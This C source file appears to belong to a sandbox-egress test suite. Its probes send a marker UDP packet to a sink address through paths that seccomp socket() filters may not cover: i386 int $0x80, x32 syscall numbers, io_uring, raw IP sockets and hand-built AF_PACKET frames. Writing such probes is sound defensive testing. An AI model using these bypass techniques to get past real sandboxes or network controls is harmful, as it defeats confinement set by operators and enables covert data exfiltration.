/* udp_entry.c - the udp family (B2), continued: entry points seccomp's
 * socket() rule does not see (i386 int $0x80, x32 numbers, io_uring) and
 * sockets below UDP (raw IP, AF_PACKET). The table is in udp.c. */
#include <arpa/inet.h>
#include <errno.h>
#include <liburing.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "udpdns.h"

/* ---- U05: the i386 and x32 entry points ---- */

#define I386_NR_SOCKETCALL 102
#define I386_NR_SOCKET 359
#define I386_NR_SENDTO 369
#define SOCKETCALL_SOCKET 1
#define SOCKETCALL_SENDTO 11
#define X32_BIT 0x40000000L

#if defined(__x86_64__)
/* int $0x80 from 64-bit code: the i386 table, 32-bit arguments in
 * ebx, ecx, edx, esi, edi, ebp. The kernel zeroes r8-r11 on this path. */
static long ia32_call3(uint32_t nr, uint32_t a1, uint32_t a2, uint32_t a3)
{
	long r = nr;
	__asm__ volatile("int $0x80"
			 : "+a"(r)
			 : "b"(a1), "c"(a2), "d"(a3)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return (int)r;
}

/* ebp is the sixth argument: save it around the call, below the red zone. */
static long ia32_call6(uint32_t nr, uint32_t a1, uint32_t a2, uint32_t a3, uint32_t a4, uint32_t a5,
		       uint32_t a6)
{
	long r = nr;
	__asm__ volatile("sub $128, %%rsp\n\t"
			 "push %%rbp\n\t"
			 "mov %k[a6], %%ebp\n\t"
			 "int $0x80\n\t"
			 "pop %%rbp\n\t"
			 "add $128, %%rsp"
			 : "+a"(r)
			 : "b"(a1), "c"(a2), "d"(a3), "S"(a4), "D"(a5), [a6] "r"(a6)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return (int)r;
}
#endif

/* Memory the i386 ABI can point at: below 4 GiB. */
struct low_page {
	uint32_t args[8];
	struct sockaddr_in sin;
	char payload[256];
};

static struct low_page *low_page(const struct attack_env *env, struct attack_log *log,
				 const char *label, uint32_t *plen)
{
	struct sockaddr_storage ss;
	struct low_page *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	int err = errno;
	attack_step(log, "mmap", p == MAP_FAILED ? -1 : 0, err, "4096 bytes, MAP_32BIT at %p",
		    p == MAP_FAILED ? NULL : (void *)p);
	if (p == MAP_FAILED)
		return NULL;
	attack_sockaddr(env->sink_v4, 9999, &ss);
	memcpy(&p->sin, &ss, sizeof(p->sin));
	*plen = (uint32_t)attack_marker_payload(env, label, p->payload, sizeof(p->payload));
	return p;
}

#define LOW(x) ((uint32_t)(uintptr_t)(x))

int u05_socketcall(const struct attack_env *env, struct attack_log *log)
{
#if defined(__x86_64__)
	uint32_t len;
	struct low_page *p = low_page(env, log, "U05.socketcall", &len);
	long fd, r;
	uint32_t a[6];

	if (!p)
		return CLAIM_UNSURE;
	p->args[0] = AF_INET;
	p->args[1] = SOCK_DGRAM;
	p->args[2] = 0;
	attack_note(log, "int $0x80: eax=%d (i386 socketcall), ebx=SYS_SOCKET, ecx=0x%x",
		    I386_NR_SOCKETCALL, LOW(p->args));
	fd = ia32_call3(I386_NR_SOCKETCALL, SOCKETCALL_SOCKET, LOW(p->args), 0);
	attack_step(log, "socketcall", fd < 0 ? -1 : fd, (int)-fd,
		    "int $0x80 socketcall(SYS_SOCKET, {AF_INET, SOCK_DGRAM, 0})");
	if (fd < 0)
		return CLAIM_BLOCKED;
	a[0] = (uint32_t)fd;
	a[1] = LOW(p->payload);
	a[2] = len;
	a[3] = 0;
	a[4] = LOW(&p->sin);
	a[5] = sizeof(p->sin);
	memcpy(p->args, a, sizeof(a));
	r = ia32_call3(I386_NR_SOCKETCALL, SOCKETCALL_SENDTO, LOW(p->args), 0);
	attack_step(log, "socketcall", r < 0 ? -1 : r, (int)-r,
		    "int $0x80 socketcall(SYS_SENDTO, {%ld, marker, %u, 0, %s:9999, %zu})", fd, len,
		    env->sink_v4, sizeof(p->sin));
	close((int)fd);
	return SENT_CLAIM(r);
#else
	attack_note(log, "int $0x80 exists only on x86_64");
	return CLAIM_UNSURE;
#endif
}

int u05_ia32_socket(const struct attack_env *env, struct attack_log *log)
{
#if defined(__x86_64__)
	uint32_t len;
	struct low_page *p = low_page(env, log, "U05.ia32-socket", &len);
	long fd, r;

	if (!p)
		return CLAIM_UNSURE;
	attack_note(log, "int $0x80: eax=%d (i386 socket)", I386_NR_SOCKET);
	fd = ia32_call3(I386_NR_SOCKET, AF_INET, SOCK_DGRAM, 0);
	attack_step(log, "socket", fd < 0 ? -1 : fd, (int)-fd,
		    "int $0x80 i386 socket(AF_INET, SOCK_DGRAM, 0)");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = ia32_call6(I386_NR_SENDTO, (uint32_t)fd, LOW(p->payload), len, 0, LOW(&p->sin),
		       sizeof(p->sin));
	attack_step(log, "sendto", r < 0 ? -1 : r, (int)-r,
		    "int $0x80 i386 sendto(%ld, marker, %u, 0, %s:9999)", fd, len, env->sink_v4);
	close((int)fd);
	return SENT_CLAIM(r);
#else
	attack_note(log, "int $0x80 exists only on x86_64");
	return CLAIM_UNSURE;
#endif
}

int u05_x32(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_storage ss;
	socklen_t sl = attack_sockaddr(env->sink_v4, 9999, &ss);
	char buf[256];
	int n = attack_marker_payload(env, "U05.x32", buf, sizeof(buf));
	long fd, r;
	int err;

	fd = syscall(X32_BIT | SYS_socket, (long)AF_INET, (long)SOCK_DGRAM, 0L);
	err = errno;
	attack_step(log, "socket", fd, err,
		    "syscall(0x40000000|%d) x32 socket(AF_INET, SOCK_DGRAM, 0)", SYS_socket);
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = syscall(X32_BIT | SYS_sendto, fd, buf, (long)n, 0L, &ss, (long)sl);
	err = errno;
	attack_step(log, "sendto", r, err, "syscall(0x40000000|%d) x32 sendto(%s:9999)", SYS_sendto,
		    env->sink_v4);
	close((int)fd);
	return SENT_CLAIM(r);
}

/* ---- U06: io_uring ---- */

static int uring_run(struct attack_log *log, struct io_uring *ring, const char *op,
		     const char *what)
{
	struct io_uring_cqe *cqe;
	struct __kernel_timespec ts = {.tv_sec = 2};
	int r = io_uring_submit(ring), res;

	attack_step(log, "io_uring_enter", r < 0 ? -1 : r, -r, "submit %s", op);
	if (r < 0)
		return r;
	r = io_uring_wait_cqe_timeout(ring, &cqe, &ts);
	if (r < 0) {
		attack_step(log, "io_uring_enter", -1, -r, "wait for the %s completion", op);
		return r;
	}
	res = cqe->res;
	io_uring_cqe_seen(ring, cqe);
	attack_step(log, op, res < 0 ? -1 : res, -res, "%s", what);
	return res;
}

int u06_io_uring(const struct attack_env *env, struct attack_log *log)
{
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	struct sockaddr_storage ss;
	char buf[256], a[96];
	struct iovec iov = {.iov_base = buf};
	struct msghdr msg = {.msg_name = &ss, .msg_iov = &iov, .msg_iovlen = 1};
	int r, fd;

	r = io_uring_queue_init(4, &ring, 0);
	attack_step(log, "io_uring_setup", r < 0 ? -1 : 0, -r, "4 entries (io_uring_queue_init)");
	if (r < 0)
		return CLAIM_BLOCKED;
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_socket(sqe, AF_INET, SOCK_DGRAM, 0, 0);
	fd = uring_run(log, &ring, "IORING_OP_SOCKET", "AF_INET, SOCK_DGRAM, 0");
	if (fd < 0) {
		io_uring_queue_exit(&ring);
		return CLAIM_BLOCKED;
	}
	msg.msg_namelen = attack_sockaddr(env->sink_v4, 9999, &ss);
	iov.iov_len = (size_t)attack_marker_payload(env, "U06", buf, sizeof(buf));
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_sendmsg(sqe, fd, &msg, 0);
	r = uring_run(log, &ring, "IORING_OP_SENDMSG",
		      ud_addr_str((struct sockaddr *)&ss, a, sizeof(a)));
	io_uring_queue_exit(&ring);
	close(fd);
	return SENT_CLAIM(r);
}

/* ---- U11: raw IP and packet sockets ---- */

static uint16_t csum16(const void *data, size_t len)
{
	const uint8_t *p = data;
	uint32_t s = 0;
	for (size_t i = 0; i + 1 < len; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		s += (uint32_t)p[len - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~s);
}

/* A UDP header (checksum 0: none, valid over IPv4) and the marker. */
static size_t build_udp(const struct attack_env *env, uint8_t *p, size_t cap, const char *label)
{
	struct udphdr *uh = (struct udphdr *)p;
	int n = attack_marker_payload(env, label, (char *)p + sizeof(*uh), cap - sizeof(*uh));
	memset(uh, 0, sizeof(*uh));
	uh->source = htons(40999);
	uh->dest = htons(9999);
	uh->len = htons((uint16_t)(sizeof(*uh) + (size_t)n));
	return sizeof(*uh) + (size_t)n;
}

int u11_raw(const struct attack_env *env, struct attack_log *log)
{
	uint8_t pkt[256];
	size_t n;
	ssize_t r;
	int fd;

	fd = ud_socket(log, AF_INET, SOCK_RAW, IPPROTO_UDP, "AF_INET, SOCK_RAW, IPPROTO_UDP");
	if (fd < 0)
		return CLAIM_BLOCKED;
	n = build_udp(env, pkt, sizeof(pkt), "U11.raw");
	r = ud_sendto(log, fd, pkt, n, 0, env->sink_v4, 0, "hand-built UDP header to port 9999");
	close(fd);
	return SENT_CLAIM(r);
}

/* The gateway's MAC from /proc/net/arp, if the pod already resolved it. */
static bool arp_lookup(struct attack_log *log, struct in_addr ip, uint8_t mac[6])
{
	FILE *f = fopen("/proc/net/arp", "re");
	int err = errno;
	char line[256], want[INET_ADDRSTRLEN];
	bool found = false;

	attack_step(log, "open", f ? 0 : -1, err, "/proc/net/arp");
	if (!f)
		return false;
	inet_ntop(AF_INET, &ip, want, sizeof(want));
	while (!found && fgets(line, sizeof(line), f)) {
		char addr[64];
		unsigned flags, m[6];
		if (sscanf(line, "%63s %*x %x %x:%x:%x:%x:%x:%x", addr, &flags, &m[0], &m[1], &m[2],
			   &m[3], &m[4], &m[5]) == 8 &&
		    strcmp(addr, want) == 0 && (flags & 0x2)) {
			for (int i = 0; i < 6; i++)
				mac[i] = (uint8_t)m[i];
			found = true;
		}
	}
	fclose(f);
	return found;
}

/* An Ethernet frame carrying IPv4/UDP to sink:9999 with the marker, written
 * below the IP layer (no routing, no netfilter IP hooks). */
int u11_packet(const struct attack_env *env, struct attack_log *log)
{
	uint8_t frame[512], dst[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
	struct ether_header *eh = (struct ether_header *)frame;
	struct iphdr *ip = (struct iphdr *)(frame + sizeof(*eh));
	struct sockaddr_ll sll;
	struct ifreq ifr;
	struct in_addr gw = {0}, src = {0}, sink;
	char ifname[IF_NAMESIZE];
	size_t ul;
	ssize_t r;
	int fd, err, rr;

	if (ud_default_route(log, ifname, &gw) < 0)
		snprintf(ifname, sizeof(ifname), "eth0");
	fd = ud_socket(log, AF_PACKET, SOCK_RAW, 0, "AF_PACKET, SOCK_RAW, 0 (send only)");
	if (fd < 0)
		return CLAIM_BLOCKED;
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	rr = ioctl(fd, SIOCGIFINDEX, &ifr);
	err = errno;
	attack_step(log, "ioctl", rr, err, "SIOCGIFINDEX %s = %d", ifname,
		    rr ? 0 : ifr.ifr_ifindex);
	if (rr < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	memset(&sll, 0, sizeof(sll));
	sll.sll_family = AF_PACKET;
	sll.sll_protocol = htons(ETH_P_IP);
	sll.sll_ifindex = ifr.ifr_ifindex;
	sll.sll_halen = 6;
	rr = ioctl(fd, SIOCGIFHWADDR, &ifr);
	err = errno;
	attack_step(log, "ioctl", rr, err, "SIOCGIFHWADDR %s", ifname);
	memcpy(eh->ether_shost, rr == 0 ? (uint8_t *)ifr.ifr_hwaddr.sa_data : dst, 6);
	rr = ioctl(fd, SIOCGIFADDR, &ifr);
	err = errno;
	attack_step(log, "ioctl", rr, err, "SIOCGIFADDR %s", ifname);
	if (rr == 0)
		src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
	if (arp_lookup(log, gw, dst))
		attack_note(log, "destination MAC: the gateway's, from /proc/net/arp");
	else
		attack_note(log, "gateway MAC unknown: Ethernet broadcast");
	memcpy(eh->ether_dhost, dst, 6);
	memcpy(sll.sll_addr, dst, 6);
	eh->ether_type = htons(ETH_P_IP);
	inet_pton(AF_INET, env->sink_v4, &sink);
	ul = build_udp(env, (uint8_t *)(ip + 1), sizeof(frame) - sizeof(*eh) - sizeof(*ip),
		       "U11.packet");
	memset(ip, 0, sizeof(*ip));
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + ul));
	ip->id = htons(0x5a5a);
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = src.s_addr;
	ip->daddr = sink.s_addr;
	ip->check = csum16(ip, sizeof(*ip));
	r = sendto(fd, frame, sizeof(*eh) + sizeof(*ip) + ul, 0, (struct sockaddr *)&sll,
		   sizeof(sll));
	err = errno;
	attack_step(log, "sendto", r, err, "%zu-byte Ethernet frame on %s: IPv4/UDP to %s:9999",
		    sizeof(*eh) + sizeof(*ip) + ul, ifname, env->sink_v4);
	close(fd);
	return SENT_CLAIM(r);
}
